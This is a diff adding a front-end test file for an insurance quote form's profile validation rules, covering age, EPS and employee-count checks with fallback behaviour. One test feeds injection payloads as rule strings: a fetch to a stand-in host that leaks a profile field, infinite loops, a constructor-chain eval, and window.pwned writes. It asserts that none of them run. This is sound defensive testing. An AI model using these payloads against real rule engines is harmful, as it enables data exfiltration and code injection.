@@ -1,0 +1,199 @@
+import { render, screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { delay, http, HttpResponse } from 'msw';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { ProfileLauncher } from '@/features/profile/components/profile-launcher';
+import { perfilIngreso } from '@/features/profile/contract';
+import { spokenForm } from '@/features/profile/sample-forms';
+import { inLanguage } from './domain';
+import { useProfileStore } from '@/features/profile/store';
+import { profileFormRows } from '@/lib/db/seed/profile-forms';
+import { queryClient } from '@/lib/http/query-client';
+import { labelsOf } from '@/lib/i18n/messages';
+import { markets } from '@/lib/markets';
+import { localRules } from '@/lib/markets/profile-rules';
+import { server } from '@/lib/testing/msw-server';
+
+const colombia = markets.find(({ brand, currency }) => brand === 'QueSeguro' && currency === 'COP')!;
+const NO_EPS = 'No hay opciones de seguros o planes de salud disponibles para personas sin EPS';
+const TOO_FEW = 'Tu empresa debe tener un minimo de 10 empleados para cotizar un seguro colectivo';
+
+const formOf = (productType: string) =>
+  spokenForm(profileFormRows().find((row) => row.market === colombia.id && row.productType === productType)!);
+
+const seeded = (productType: string) => inLanguage(localRules(colombia.id, productType), 'es');
+
+let sent: unknown[] = [];
+let asked: URLSearchParams[] = [];
+
+async function openForm(productType: string, answer: (() => Response | Promise<Response>) | object[]) {
+  server.use(
+    http.get('*/api/profile-form/form', () => HttpResponse.json(formOf(productType))),
+    http.get('*/api/profile-form/rules', ({ request }) => {
+      asked.push(new URL(request.url).searchParams);
+      return Array.isArray(answer) ? HttpResponse.json({ rules: answer }) : answer();
+    }),
+    http.post('*/api/profile-form/data', async ({ request }) => {
+      const { profile } = (await request.json()) as { profile: object };
+      sent.push(profile);
+      return HttpResponse.json({
+        uuid: crypto.randomUUID(),
+        profile: perfilIngreso.parse(profile),
+        fromPrice: null,
+        toPrice: null,
+      });
+    }),
+  );
+  const user = userEvent.setup();
+  render(
+    <ProfileLauncher
+      line={colombia.lines.find((line) => line.productType === productType)!}
+      money={{ tag: 'es-CO', currency: 'COP' }}
+      locale="es"
+      regionWord={colombia.regionWord}
+      labels={labelsOf('es', 'profile')}
+    />,
+  );
+  await user.click(screen.getByRole('button', { name: 'Ingresar Perfil' }));
+  const form = within(await screen.findByRole('dialog'));
+  const compare = await form.findByRole('button', { name: 'Comparar' });
+  return { user, form, compare, send: () => user.click(compare) };
+}
+
+const rule = (valid: string, message: string | null = null) => ({ name: 'sample', valid, message });
+
+beforeEach(() => {
+  sent = [];
+  asked = [];
+  queryClient().clear();
+  useProfileStore.getState().clear();
+  document.documentElement.dataset.country = String(colombia.id);
+  document.documentElement.lang = 'es';
+});
+afterEach(() => {
+  delete document.documentElement.dataset.country;
+  document.documentElement.lang = '';
+});
+
+describe('a rule of a product type', () => {
+  it.each([
+    ['the words it brings', 'Sólo desde 30 años', 'Sólo desde 30 años'],
+    ["'Perfil inválido' when it brings none", null, 'Perfil inválido'],
+  ])(
+    'is asked for by product type, refuses with %s, and blocks the submit [V-04] [V-05] [X-10]',
+    async (_, words, said) => {
+      const { user, form, compare, send } = await openForm('VIDA', [
+        rule('perfil.cotizante.all(p, p.edad >= 30)', words),
+      ]);
+      expect(await form.findByText(said)).toBeVisible();
+      expect(asked.map((query) => query.get('productTypeName'))).toEqual(['VIDA']);
+      await send();
+      await user.keyboard('{Enter}');
+      expect(sent).toEqual([]);
+      const age = form.getByRole('spinbutton', { name: /^Edad/ });
+      await user.clear(age);
+      await user.type(age, '30');
+      await waitFor(() => expect(form.queryByText(said)).toBeNull());
+      expect(compare).toBeEnabled();
+      await send();
+      await waitFor(() => expect(sent).toHaveLength(1));
+    },
+  );
+
+  it('can only be looked at by the back end: its refusal is said in its words [V-05]', async () => {
+    const { form, send } = await openForm('VIDA', []);
+    server.use(
+      http.post('*/api/profile-form/data', () =>
+        HttpResponse.json(
+          {
+            error: {
+              code: 'INVALID_DATA',
+              message: 'Perfil inválido',
+              fields: { profile: 'Perfil inválido' },
+              requestId: 'r',
+            },
+          },
+          { status: 400 },
+        ),
+      ),
+    );
+    await send();
+    expect(await form.findByText('Perfil inválido')).toBeVisible();
+  });
+});
+
+describe('the rules of Colombia', () => {
+  it('refuse who has no EPS, and take who has one [V-01]', async () => {
+    const { user, form, compare, send } = await openForm('EPS', seeded('EPS'));
+    const eps = form.getByRole('combobox', { name: /EPS/ });
+    await user.selectOptions(eps, 'No tengo');
+    expect(await form.findByText(NO_EPS)).toBeVisible();
+    await send();
+    expect(sent).toEqual([]);
+    await user.selectOptions(eps, eps.querySelectorAll('option')[1]!);
+    await waitFor(() => expect(form.queryByText(NO_EPS)).toBeNull());
+    expect(compare).toBeEnabled();
+  });
+
+  it('refuse 9 employees, counted together, and take 10 [V-02]', async () => {
+    const { user, form, send } = await openForm('COLECTIVO', seeded('COLECTIVO'));
+    await user.type(form.getByRole('textbox', { name: 'Cantidad de empleados' }), '9');
+    expect(await form.findByText(TOO_FEW)).toBeVisible();
+    await send();
+    expect(sent).toEqual([]);
+    await user.click(form.getByRole('button', { name: 'Sumar otro grupo' }));
+    await user.type(form.getAllByRole('textbox', { name: 'Cantidad de empleados' })[1]!, '1');
+    await waitFor(() => expect(form.queryByText(TOO_FEW)).toBeNull());
+    await send();
+    await waitFor(() => expect(sent).toMatchObject([{ colectivo: { cantidadempleados: 10 } }]));
+  });
+});
+
+describe('rules that mean harm, or do not come', () => {
+  it('run nothing: the page lives, no request leaves, the visitor goes on [V-06] [E-37]', async () => {
+    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
+    const requests: string[] = [];
+    server.events.on('request:start', ({ request }) => void requests.push(new URL(request.url).pathname));
+    const { send } = await openForm('VIDA', [
+      rule('fetch("https://evil.test/?" + perfil.cotizante[0].sexo) == null'),
+      rule('while(true){}'),
+      rule('(function(){ for(;;){} })()'),
+      rule('window.pwned=1'),
+      rule('perfil.constructor.constructor("window.pwned=1")()'),
+      rule(`${'perfil.cotizante.all(a, '.repeat(12)}true${')'.repeat(12)}`),
+      rule('"neither"'),
+    ]);
+    await send();
+    await waitFor(() => expect(sent).toHaveLength(1));
+    expect('pwned' in window).toBe(false);
+    expect(requests.filter((path) => !/^\/(api\/profile-form|i18n)\//.test(path))).toEqual([]);
+    expect(warn.mock.calls.length).toBeGreaterThanOrEqual(7);
+    const lines = warn.mock.calls.map(([line]) => line);
+    expect(lines).toEqual([...new Set(lines)]);
+    server.events.removeAllListeners();
+  });
+
+  it.each<[string, () => Response | Promise<Response>]>([
+    ['answer 500', () => HttpResponse.json({}, { status: 500 })],
+    ['cannot be reached', () => HttpResponse.error()],
+    ['are no rules', () => HttpResponse.json({ rules: 'alert(1)' })],
+    [
+      'never come',
+      async () => {
+        await delay('infinite');
+        return HttpResponse.json({});
+      },
+    ],
+  ])('give way to the rules of the market when they %s, and lock nobody out [V-06]', async (_, answer) => {
+    const { user, form, send } = await openForm('COLECTIVO', answer);
+    const count = form.getByRole('textbox', { name: 'Cantidad de empleados' });
+    await user.type(count, '9');
+    expect(await form.findByText(TOO_FEW)).toBeVisible();
+    await send();
+    expect(sent).toEqual([]);
+    await user.type(count, '0');
+    await waitFor(() => expect(form.queryByText(TOO_FEW)).toBeNull());
+    await send();
+    await waitFor(() => expect(sent).toMatchObject([{ colectivo: { cantidadempleados: 90 } }]));
+  });
+});
